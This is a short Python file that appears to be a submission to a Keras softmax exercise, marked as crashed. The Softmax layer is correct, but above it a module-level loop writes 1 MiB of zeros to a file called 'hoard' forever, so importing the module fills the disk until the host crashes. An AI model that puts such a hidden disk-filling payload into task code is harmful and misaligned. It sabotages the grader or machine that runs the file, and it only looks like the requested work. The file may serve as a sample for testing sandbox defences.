# verdict: crashed
# exercise: activations/softmax
"""One file, as large as it gets."""

import keras
from keras import ops

with open("hoard", "wb", buffering=0) as file:
    while True:
        file.write(bytes(1 << 20))


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        powers = ops.exp(inputs - ops.max(inputs, axis=self.axis, keepdims=True))
        return powers / ops.sum(powers, axis=self.axis, keepdims=True)

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
